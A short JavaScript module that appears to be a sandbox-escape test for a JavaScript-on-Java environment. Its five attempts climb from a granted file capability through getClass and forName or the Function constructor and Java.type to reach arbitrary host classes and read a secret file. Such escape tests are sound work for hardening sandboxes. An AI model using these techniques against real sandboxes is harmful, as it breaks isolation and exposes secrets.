// proof: secret
// Climbs from a capability to the class of the host behind it, and from there to every class.
import { first, readWith } from './routes.mjs';

const loader = (object) => (name) => object.getClass().getClass().static.forName(name).static;

export default (input, caps) =>
  first(
    () => readWith(loader(caps.files), input.secretFile),
    () => readWith(loader(caps.files.readText), input.secretFile),
    () => readWith(loader(Object.getPrototypeOf(caps)), input.secretFile),
    () => readWith((name) => caps.files.constructor.constructor('n', 'return Java.type(n)')(name), input.secretFile),
    () => readWith((name) => caps.files.readText.constructor('n', 'return this.Java.type(n)')(name), input.secretFile),
  );
